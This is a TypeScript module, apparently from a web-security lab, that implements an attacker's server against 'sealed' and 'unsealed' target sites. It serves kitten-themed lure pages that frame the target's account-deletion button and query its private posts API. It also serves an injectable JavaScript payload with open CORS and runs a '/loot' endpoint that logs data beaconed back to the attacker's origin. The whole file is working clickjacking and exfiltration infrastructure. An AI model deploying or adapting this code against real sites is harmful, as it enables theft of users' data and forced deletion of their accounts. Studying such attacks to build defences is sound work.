import { abort, Blueprint } from "ampoule";
import { unsafeResourceUrl } from "ampoule/unsafe";
import { drawKitten, KITTENS, type KittenName } from "../pictures/album.ts";
import { resolveAim, type Targets } from "./aim.ts";
import type { Notebook } from "./loot.ts";
import { payload } from "./payload.ts";

/** How long a kitten page shows kittens before it strikes, in milliseconds. */
const PATIENCE = 1500;
const PICTURE_WIDTH = 400;

export interface LuresOptions {
  readonly targets: Targets;
  readonly notebook: Notebook;
  /** The attacker's own origin. */
  readonly origin: string;
}

/** What victims and their browsers get to see: lures, the script that attacks inject, and the place it reports to. */
export function lures({ targets, notebook, origin }: LuresOptions): Blueprint {
  const lures = new Blueprint("lures");
  const pictures = new Map<KittenName, Uint8Array>();

  lures.get("/lure/<slug>/<any(sealed, unsealed):target>", { name: "show" }, (c) => {
    const { attack, target } = resolveAim(c.params, targets);
    return c.render(`attacker/lures/${attack.slug}.html`, {
      target,
      kittens: KITTENS,
      patience: PATIENCE,
      token: c.request.query.get("token") ?? "",
      beacon: `${origin}/loot/${attack.slug}/${target.name}?what=`,
      api: unsafeResourceUrl(`${target.origin}/api/posts?by=me`),
      // The button of that page, scrolled to the top of the frame.
      page: unsafeResourceUrl(`${target.origin}/user/delete#confirm`),
    });
  });

  lures.get("/payload/<slug>/<any(sealed, unsealed):target>", { name: "payload" }, (c) => {
    const { attack, target } = resolveAim(c.params, targets);
    c.headers.set("access-control-allow-origin", "*");
    return c.bytes(payload(`${origin}/loot/${attack.slug}/${target.name}?what=`), {
      contentType: "text/javascript; charset=utf-8",
    });
  });

  lures.get("/loot/<slug>/<any(sealed, unsealed):target>", { name: "loot" }, (c) => {
    const { slug, target } = c.params;
    if (!notebook.write(slug, target, c.request.query.get("what") ?? "")) abort(404);
    c.headers.set("access-control-allow-origin", "*");
    return c.empty();
  });

  lures.get("/kitten/<name>", { name: "picture" }, (c) => {
    const name = KITTENS.find((kitten) => kitten === c.params.name) ?? abort(404);
    const png = pictures.get(name) ?? drawKitten(name, PICTURE_WIDTH);
    pictures.set(name, png);
    return c.bytes(new Uint8Array(png), { contentType: "image/png" });
  });

  return lures;
}
